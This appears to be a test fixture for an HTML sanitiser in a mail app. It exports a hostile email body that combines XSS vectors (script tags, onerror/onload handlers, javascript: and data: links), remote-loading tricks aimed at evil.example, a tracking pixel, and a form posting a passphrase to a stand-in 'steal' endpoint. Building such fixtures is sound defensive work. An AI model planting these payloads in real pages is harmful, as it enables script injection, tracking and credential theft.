// A message body that tries everything a hostile or tracking sender would: used by the sanitiser
// test and the end-to-end test, so both check the same attacks.
export const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/bg.png); } .x { background-image: url('https://evil.example/x.png') }</style>
<script>console.log('PWNED script'); alert('PWNED')</script>
</head><body>
<p>Dear DPO, I request access to my personal data under Art. 15 GDPR.</p>
<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1" alt="">
<img src="x" onerror="console.log('PWNED onerror'); alert('PWNED')">
<svg onload="console.log('PWNED svg'); alert('PWNED')"><script>console.log('PWNED svg script')</script><image href="https://evil.example/svg.png"/></svg>
<a href="javascript:alert('PWNED')">click me</a>
<a href="data:text/html,<script>alert('PWNED')</script>">data link</a>
<a href="https://example.org/policy">our policy</a>
<div style="background:url(https://evil.example/div.png)">styled</div>
<div style="background:\\75 rl(https://evil.example/escaped.png)">escaped</div>
<form action="https://evil.example/steal"><input name="passphrase"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<video poster="https://evil.example/poster.png"></video>
<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>
<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
</body></html>`;
